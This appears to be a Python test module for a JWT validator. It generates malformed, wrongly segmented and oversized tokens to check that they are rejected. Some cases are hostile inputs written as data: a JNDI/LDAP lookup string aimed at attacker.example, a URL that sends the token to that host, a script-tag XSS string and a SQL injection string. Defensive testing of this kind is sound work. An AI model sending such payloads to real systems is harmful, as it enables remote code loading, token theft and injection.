"""Attacks on the number of segments, what they are, and how long they are."""

import json

from ..forge import b64, dumps, tokens

SEGMENTS = tokens(
    "malformed",
    {
        "no dot": lambda m: m.token.replace(".", ""),
        "a single letter": lambda m: "x",
        "a single dot": lambda m: ".",
        "two dots": lambda m: "..",
        "three dots": lambda m: "...",
        "sixteen thousand dots": lambda m: "." * 16_000,
        "header and payload only": lambda m: ".".join(m.parts[:2]),
        "no header": lambda m: f".{m.parts[1]}.{m.parts[2]}",
        "no payload": lambda m: m.segments(m.parts[0], ""),
        "a dot before": lambda m: f".{m.token}",
        "a dot after": lambda m: f"{m.token}.",
        "a fourth segment": lambda m: f"{m.token}.{m.parts[2]}",
        "a second signature": lambda m: f"{m.token}.{m.signed().split('.')[2]}",
        "the token twice": lambda m: f"{m.token}.{m.token}",
        "two tokens with a comma": lambda m: f"{m.token},{m.token}",
        "a disclosure after a tilde": lambda m: f"{m.parts[0]}.{m.parts[1]}~WyJzYWx0Il0~.{m.parts[2]}",
        "segments backwards": lambda m: ".".join(m.parts[::-1]),
        "JWE of five segments": lambda m: ".".join([b64(b'{"alg":"dir","enc":"A128GCM"}'), "", "AAAA", "AAAA", "AAAA"]),
        "JWE of the good token": lambda m: ".".join([b64(b'{"alg":"RSA-OAEP","enc":"A256GCM"}'), *m.parts, "AAAA"]),
        "a token in a token": lambda m: m.raw(payload=m.token.encode()),
        "a token in a token, with cty": lambda m: m.raw(dumps(m.header | {"cty": "JWT"}), m.token.encode()),
        "a token as a JSON string": lambda m: json.dumps(m.token),
        "flattened JSON": lambda m: json.dumps(
            {"protected": m.parts[0], "payload": m.parts[1], "signature": m.parts[2]}, separators=(",", ":")
        ),
        "general JSON": lambda m: json.dumps(
            {"payload": m.parts[1], "signatures": [{"protected": m.parts[0], "signature": m.parts[2]}]},
            separators=(",", ":"),
        ),
        "a PASETO": lambda m: f"v4.public.{m.parts[1]}",
        "an opaque token": lambda m: "2YotnFZFEjr1zCsicMWpAA",
        "a UUID": lambda m: "8c9f6c6e-6d0e-4d0f-8a53-7a1d6b0f4f0a",
        "three empty objects": lambda m: "e30.e30.e30",
        "an encoded URL": lambda m: "https://attacker.example/?token=" + m.token,
        "a format string": lambda m: "%s%n%x{0}{0.__class__}${jndi:ldap://attacker.example/a}",
        "markup": lambda m: "<script>alert(1)</script>.<b>.<i>",
        "SQL": lambda m: "'/**/OR/**/1=1--",
    },
)
TOO_LONG = tokens(
    "too_long",
    {
        "a genuine token one character too long": lambda m: exactly(m, 16_385),
        "a genuine token of a hundred thousand characters": lambda m: m.signed(claims={"x": "y" * 75_000}),
        "a million letters": lambda m: "a" * 1_000_000,
        "a million dots": lambda m: "." * 1_000_000,
        "a million open brackets, genuinely signed": lambda m: m.raw(payload=b"[" * 1_000_000),
    },
)


def exactly(mint, length):
    """Return a genuine token of exactly so many characters, by what one claim is filled with."""
    tokens_of_all_lengths = (
        mint.raw(dumps(mint.header) + blanks, dumps(mint.claims | {"x": "y" * fill}))
        for fill in range(length * 3 // 4 - 600, length)
        for blanks in (b"", b" ")
    )
    return next(token for token in tokens_of_all_lengths if len(token) == length)


CASES = [*SEGMENTS, *TOO_LONG]
